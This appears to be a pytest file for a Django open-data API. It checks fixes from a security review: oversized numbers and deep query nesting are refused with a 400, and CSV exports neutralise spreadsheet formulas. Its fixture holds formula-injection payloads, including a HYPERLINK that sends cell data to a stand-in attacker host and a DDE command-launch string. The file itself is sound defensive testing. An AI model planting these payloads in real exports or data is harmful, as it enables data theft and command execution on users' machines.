"""Two findings of a hostile review of the Explore API, each kept fixed by its own
reproduction: numbers the databases cannot hold and deeply nested queries were 500s
(OverflowError on SQLite, RecursionError anywhere), and the CSV exports wrote cells such
as `=HYPERLINK(…)` verbatim, which a spreadsheet runs as formulas."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.db import connection
from django.http import QueryDict
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from territoria.core.http import FORMULA_STARTS, spreadsheet_text
from territoria.ecosystem.models import Organisation
from territoria.opendata import exports, odsql, pgcopy, registry
from territoria.opendata.api import export_columns
from territoria.opendata.odsql import MAX_DEPTH, ODSQLError, number_value, parse_where
from territoria.opendata.params import parse_request
from territoria.opendata.services import Query
from territoria.taxonomy import index
from territoria.taxonomy.models import Concept, ConceptScheme
from tests.factories import organisation
from tests.opendata.conftest import EXPORTS, FACETS, RECORDS

API = "/api/explore/v2.1/catalog/datasets/"
PAGE = "/data/fixture-organisations/"


def refused(response: Any, *expected: str) -> str:
    """The message of a 400 in the API's error shape, which must name each `expected`."""
    assert response.status_code == 400, (response.status_code, response.content[:300])
    body = response.json()
    assert set(body) == {"error_code", "message"}
    for text in expected:
        assert text in body["message"]
    return str(body["message"])


def page_refused(response: Any, *expected: str) -> None:
    """A dataset page answering 400 with the form's alert naming each `expected`."""
    assert response.status_code == 400
    body = response.content.decode()
    alert = body.split('role="alert"', 1)[1].split("</div>", 1)[0]
    for text in expected:
        assert text in alert


# --- Finding 2: numbers the databases cannot hold -----------------------------------------

# The review's own: `year` of the calls dataset is an ExtractYear, whose IN list Django
# converts to int and SQLite's driver cannot bind past 64 bits.
REVIEW_CALLS = [
    ("year IN (99999999999999999999)", "99999999999999999999"),
    ("year NOT IN (99999999999999999999)", "99999999999999999999"),
    ("year(opens_at) IN (9223372036854775808)", "9223372036854775808"),
    ("month(opens_at) IN (1e19)", "1e19"),
]


@pytest.mark.parametrize(("where", "literal"), REVIEW_CALLS)
@pytest.mark.parametrize("endpoint", ["records", "facets", "exports/csv", "exports/json"])
def test_the_reviews_numbers_are_a_400_naming_the_number(
    client: Client, db: Any, endpoint: str, where: str, literal: str
) -> None:
    refused(client.get(f"{API}calls/{endpoint}", {"where": where}), "out of range", literal)


@pytest.mark.parametrize(("where", "literal"), REVIEW_CALLS)
def test_the_reviews_numbers_are_a_400_page_saying_what_is_wrong(
    client: Client, db: Any, where: str, literal: str
) -> None:
    page_refused(client.get("/data/calls/", {"where": where}), "out of range", literal)


# Each: a `where`, and the literal its message must name.
OUT_OF_RANGE = [
    ("id IN (99999999999999999999)", "99999999999999999999"),
    ("id NOT IN (1, 99999999999999999999)", "99999999999999999999"),
    ("year(founded_on) IN (9223372036854775808)", "9223372036854775808"),
    ("month(created_at) IN (1e19)", "1e19"),
    ("day(founded_on) NOT IN (-9223372036854775809)", "-9223372036854775809"),
    ("hour(created_at) > 9223372036854775808", "9223372036854775808"),
    ("id >= 1 AND id <= 1e19", "1e19"),
    ("NOT (id > -1e19 AND id < 1)", "-1e19"),
    ("latitude < 1e308", "1e308"),
    ("latitude < 1e309", "1e309"),
    ("latitude > -1e309", "-1e309"),
    ("latitude = " + "9" * 400 + ".5", "9" * 400 + ".5"),
    ("latitude > 1e-400", "1e-400"),
    ("id = 1e999999999", "1e999999999"),
    ("id = 1e99999999999999999999999", "1e99999999999999999999999"),
]


@pytest.mark.parametrize(("where", "literal"), OUT_OF_RANGE)
def test_a_number_the_databases_cannot_hold_is_a_400_everywhere(
    api: Client, where: str, literal: str
) -> None:
    for url in (RECORDS, FACETS, EXPORTS + "csv", EXPORTS + "json", EXPORTS + "parquet"):
        refused(api.get(url, {"where": where}), "out of range", literal)
    refused(api.get(RECORDS, {"where": where, "select": "count(*) as n"}), literal)
    refused(api.get(RECORDS, {"where": where, "group_by": "city"}), literal)
    page_refused(api.get(PAGE, {"where": where}), "out of range", literal)


@pytest.mark.parametrize(
    "params",
    [
        {"select": "sum(99999999999999999999)"},
        {"select": "max(id) as m", "where": "id < 9223372036854775808"},
        {"group_by": "99999999999999999999"},
        {"group_by": "year(founded_on) as y", "select": "y, sum(1e19) as n"},
        {"order_by": "99999999999999999999"},
        {"order_by": "-1e309"},
        {"select": "id", "where": 'search("x") AND id IN (2, 1e20)'},
    ],
)
def test_a_number_out_of_range_in_select_group_by_or_order_by_is_a_400(
    api: Client, params: dict[str, str]
) -> None:
    refused(api.get(RECORDS, params), "out of range")


@pytest.mark.parametrize("name", ["refine", "exclude"])
@pytest.mark.parametrize(
    "value", ["99999999999999999999", "9223372036854775808", "1e19", "1e309", "inf", "nan"]
)
def test_a_refinement_by_a_number_out_of_range_is_a_400(
    client: Client, db: Any, name: str, value: str
) -> None:
    for endpoint in ("records", "facets", "exports/csv"):
        refused(client.get(f"{API}calls/{endpoint}", {name: f"year:{value}"}), value)
    assert client.get("/data/calls/", {"refine": f"year:{value}"}).status_code == 400


@pytest.mark.parametrize("value", ["99999999999999999999", "1e19", "-9223372036854775809"])
def test_a_date_refinement_out_of_range_is_a_400(api: Client, value: str) -> None:
    refused(api.get(RECORDS, {"refine": f"founded_on:{value}"}), "founded_on")


@pytest.mark.parametrize("limit", ["99999999999999999999", "1e999999999", "1e309", "-0.5"])
def test_a_facet_limit_out_of_range_is_a_400(api: Client, limit: str) -> None:
    refused(api.get(FACETS, {"facet": f'facet(name="city", limit={limit})'}))


@pytest.mark.parametrize(
    ("where", "count"),
    [
        ("id IN (9223372036854775807)", 0),
        ("id NOT IN (-9223372036854775808)", 8),
        ("id > -9223372036854775808 AND id <= 9223372036854775807", 8),
        ("id = -0", 0),
        ("id != -0.0", 8),
        ("latitude < 1e18 AND latitude > -1e18", 6),
        ("latitude > 4.9e-324", 6),
        ("latitude < 99999999999999999999.5", 6),
        ("year(founded_on) IN (2001.0)", 1),
        # The IN list is compared as written: 2001.5 is no year (Django made it 2001).
        ("year(founded_on) IN (2001.5)", 0),
        ("year(founded_on) NOT IN (2001.5)", 7),
        ("month(created_at) IN (9223372036854775807, 1)", 2),
    ],
)
def test_numbers_the_databases_hold_are_answered(api: Client, where: str, count: int) -> None:
    response = api.get(RECORDS, {"where": where})
    assert response.status_code == 200, response.content
    assert response.json()["total_count"] == count


def test_the_compiler_names_the_number_as_written_and_where_it_is() -> None:
    where = parse_where("latitude < 1E+19")
    with pytest.raises(ODSQLError) as error:
        number_value(where.right)
    assert "1E+19" in str(error.value)
    assert error.value.position == 11
    assert number_value(parse_where("a = -9223372036854775808").right) == -(2**63)
    assert number_value(parse_where("a = 1e3").right) == 1000
    assert number_value(parse_where("a = -0.5e-3").right) == -0.0005
    assert odsql.parse_facet('facet(name="city", limit=10.0)') == {"name": "city", "limit": 10}


def test_the_page_reports_a_number_at_its_place_in_the_visitors_condition(api: Client) -> None:
    alone = api.get(PAGE, {"where": "id = 1 OR id = 1e19"})
    with_search = api.get(PAGE, {"where": "id = 1 OR id = 1e19", "q": "Alpha"})
    for response in (alone, with_search):
        page_refused(response, "1e19", "(at position 15)")


# --- Finding 2: nesting --------------------------------------------------------------------

DEEP_LOWER = "lower(" * 155 + "name" + ")" * 155 + ' = "x"'


def test_the_reviews_deep_calls_are_a_400_everywhere(api: Client, client: Client) -> None:
    for url in (RECORDS, FACETS, EXPORTS + "csv", EXPORTS + "xlsx"):
        refused(api.get(url, {"where": DEEP_LOWER}), "nested too deeply")
    refused(api.get(RECORDS, {"select": DEEP_LOWER.split(" = ")[0]}), "nested too deeply")
    refused(api.get(RECORDS, {"group_by": DEEP_LOWER.split(" = ")[0]}), "nested too deeply")
    refused(api.get(RECORDS, {"order_by": DEEP_LOWER.split(" = ")[0]}), "nested too deeply")
    page_refused(api.get(PAGE, {"where": DEEP_LOWER}), "nested too deeply")
    deep_title = "lower(" * 155 + "title" + ")" * 155 + ' = "x"'
    refused(client.get(f"{API}calls/records", {"where": deep_title}), "nested too deeply")
    page_refused(client.get("/data/calls/", {"where": deep_title}), "nested too deeply")


WITHIN, BEYOND = MAX_DEPTH, MAX_DEPTH + 1


def alternating(n: int) -> str:
    """Groups within groups, 2n + 4 levels: each group inside another is one, and so are
    the NOT, the comparison and the field at the bottom."""
    return "id = 1 OR (" + "id = 2 AND (id = 3 OR (" * n + 'NOT city = "x"' + "))" * n + ")"


@pytest.mark.parametrize(
    ("where", "levels"),
    [
        # The comparison, the calls, then the field.
        *(("lower(" * (n - 2) + "name" + ")" * (n - 2) + ' = "x"', n) for n in (WITHIN, BEYOND)),
        *(("NOT " * (n - 2) + "id = 1", n) for n in (WITHIN, BEYOND)),
        *((alternating((n - 4) // 2), n) for n in (WITHIN, BEYOND + 1)),
    ],
)
def test_nesting_is_bounded_at_max_depth_with_a_clear_error(
    api: Client, where: str, levels: int
) -> None:
    assert MAX_DEPTH == 20
    with_groups = {"where": where, "group_by": "lower(" * (MAX_DEPTH - 1) + "city" + ")" * 19}
    for url, params in ((RECORDS, {"where": where}), (FACETS, {"where": where}),
                        (RECORDS, with_groups), (EXPORTS + "csv", with_groups)):  # fmt: skip
        response = api.get(url, params)
        if levels <= MAX_DEPTH:
            # On both databases: SQLite's parser too takes every query within the bound.
            assert response.status_code == 200, response.content
        else:
            refused(response, "nested too deeply", f"at most {MAX_DEPTH} levels")


def test_a_chain_too_long_for_sqlite_is_a_400_saying_so(api: Client) -> None:
    response = api.get(RECORDS, {"where": " OR ".join(["id=1"] * 1240)})
    if connection.vendor == "sqlite":  # its parser nests each OR: at most 1,000
        refused(response, "too large for the database", "IN rather than a chain of OR")
    else:
        assert response.status_code == 200


@pytest.mark.parametrize(
    "where",
    [
        "(" * 4_000 + "id = 1" + ")" * 4_000,  # redundant parentheses are no level
        " AND ".join(["id > 0"] * 600),  # one level, whatever its length
        " OR ".join(["active"] * 900),
        " AND ".join(["NOT id = 0"] * 500),
    ],
)
def test_long_chains_and_redundant_parentheses_are_answered_200_or_400(
    api: Client, where: str
) -> None:
    for url in (RECORDS, FACETS, EXPORTS + "csv"):
        response = api.get(url, {"where": where})
        # SQLite refuses an expression tree deeper than 1,000 (a long chain of OR), a 400.
        assert response.status_code in (200, 400)
        if response.status_code == 400:
            refused(response)


# --- Finding 8: formulas in the CSV ---------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Voir")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-1+2",
    "\tTab",
    "\r=1+1",
]
NO_DATETIME = "id, name, city, postcode, latitude, active, position, technology"


@pytest.fixture
def formulas(orgs: list[dict[str, Any]]) -> list[Organisation]:
    """Organisations whose texts would run as formulas, one with a negative latitude and a
    technology whose label is a formula too."""
    scheme = ConceptScheme.objects.get(code="technology")
    Concept.objects.create(scheme=scheme, notation="formula", label_fr="=1+1", label_en="=1+1")
    created = [
        organisation(
            text,
            "technology:formula",
            "technology:ai",
            city=text,
            postcode=text[:10],
            latitude=-1.5,
            longitude=-2.25,
        )
        for text in FORMULAS
    ]
    index._cache.clear()
    index.bump()
    return created


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("select", [None, NO_DATETIME])
def test_the_csv_export_writes_no_formula(
    api: Client, formulas: list[Organisation], select: str | None
) -> None:
    # Without datetimes, PostgreSQL writes the CSV itself (COPY): the same rule holds.
    params = {"where": "latitude < 0"} | ({"select": select} if select else {})
    rows = csv_rows(api.get(EXPORTS + "csv", params))
    assert sorted(row["name"] for row in rows) == sorted(spreadsheet_text(t) for t in FORMULAS)
    assert sorted(row["city"] for row in rows) == sorted(spreadsheet_text(t) for t in FORMULAS)
    for row in rows:
        for name in ("name", "city", "postcode", "technology"):
            assert not row[name].startswith(FORMULA_STARTS), row
        assert row["technology"].startswith("'=1+1,")
        # Numbers stay numbers: a negative number is not a formula.
        assert row["latitude"] == "-1.5"
        assert row["position"] == "-1.5, -2.25"
        assert row["id"].isdigit()


def test_a_csv_with_options_and_aggregates_writes_no_formula_either(
    api: Client, formulas: list[Organisation]
) -> None:
    text = b"".join(
        api.get(
            EXPORTS + "csv",
            {"select": "name, technology", "where": "latitude < 0", "quote_all": "true",
             "delimiter": ",", "list_separator": "|", "with_bom": "true"},
        ).streaming_content
    ).decode("utf-8-sig")  # fmt: skip
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert row[0] == spreadsheet_text(row[0].removeprefix("'"))
        assert row[0].startswith("'") and row[1].startswith("'=1+1|")
    grouped = api.get(
        EXPORTS + "csv",
        {"group_by": "city", "select": "city, min(name) as first, count(*) as n",
         "where": "latitude < 0"},
    )  # fmt: skip
    for row in csv_rows(grouped):
        assert row["city"].startswith("'") and row["first"].startswith("'")
        assert row["n"] == "1"


@pytest.mark.parametrize("format_name", ["json", "jsonl"])
def test_the_json_exports_keep_the_exact_values(
    api: Client, formulas: list[Organisation], format_name: str
) -> None:
    response = api.get(EXPORTS + format_name, {"where": "latitude < 0", "select": "name, city"})
    body = b"".join(response.streaming_content).decode()
    records = json.loads(body) if format_name == "json" else [
        json.loads(line) for line in body.splitlines()
    ]  # fmt: skip
    assert sorted(r["name"] for r in records) == sorted(FORMULAS)
    assert sorted(r["city"] for r in records) == sorted(FORMULAS)


def test_the_xlsx_export_keeps_the_exact_values_as_text_cells(
    api: Client, formulas: list[Organisation]
) -> None:
    response = api.get(EXPORTS + "xlsx", {"where": "latitude < 0", "select": "name, latitude"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet is not None
    cells = [(row[0].value, row[0].data_type, row[1].value) for row in sheet.iter_rows(min_row=2)]
    # A CR is stored escaped, as OOXML writes control characters; openpyxl leaves it so.
    names = [str(name).replace("_x000D_", "\r") for name, _type, _lat in cells]
    assert sorted(names) == sorted(FORMULAS)
    assert {kind for _name, kind, _lat in cells} == {"s"}  # text, never a formula ("f")
    assert {lat for _name, _kind, lat in cells} == {-1.5}


def test_the_export_command_writes_no_formula(formulas: list[Organisation], tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    call_command(
        "export", "fixture-organisations", "--where", "latitude < 0", "-o", str(target),
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    rows = list(
        csv.DictReader(io.StringIO(target.read_bytes().decode(), newline=""), delimiter=";")
    )
    assert sorted(row["name"] for row in rows) == sorted(spreadsheet_text(t) for t in FORMULAS)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("params", [{"select": NO_DATETIME}, {"select": "technology, name"}])
def test_copy_neutralises_formulas_byte_for_byte_as_the_python_writer(
    formulas: list[Organisation], params: dict[str, str]
) -> None:
    query_params = QueryDict(mutable=True)
    query_params.update(params)
    options = exports.parse_options(query_params)
    dataset = registry.get("fixture-organisations")
    python_query = Query(dataset, parse_request(query_params, export=True))
    copy_query = Query(dataset, parse_request(query_params, export=True))
    assert options.spreadsheet_safe and pgcopy.usable(copy_query, options)
    columns = export_columns(python_query)
    python = b"".join(exports.stream("csv", columns, python_query.export_rows(), options))
    assert b"'=HYPERLINK" in python and b"'=1+1" in python
    assert b"".join(pgcopy.stream(copy_query, columns, options)) == python


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    text=st.one_of(
        # Texts a database holds: no NUL, and no lone surrogate (not encodable in UTF-8).
        st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12),
        st.tuples(
            st.sampled_from([*FORMULA_STARTS, "'", " ", "=", "é"]), st.text("ab=\r\n", max_size=4)
        ).map("".join),
    )
)
def test_copys_rule_is_spreadsheet_text(db: Any, text: str) -> None:
    case, params = pgcopy.spreadsheet_sql("t.cell")
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {case} FROM (SELECT %s::text AS cell) t", [*params, text])  # noqa: S608
        assert cursor.fetchone() == (spreadsheet_text(text),)
        cursor.execute(f"SELECT {case} FROM (SELECT NULL::text AS cell) t", params)  # noqa: S608
        assert cursor.fetchone() == (None,)
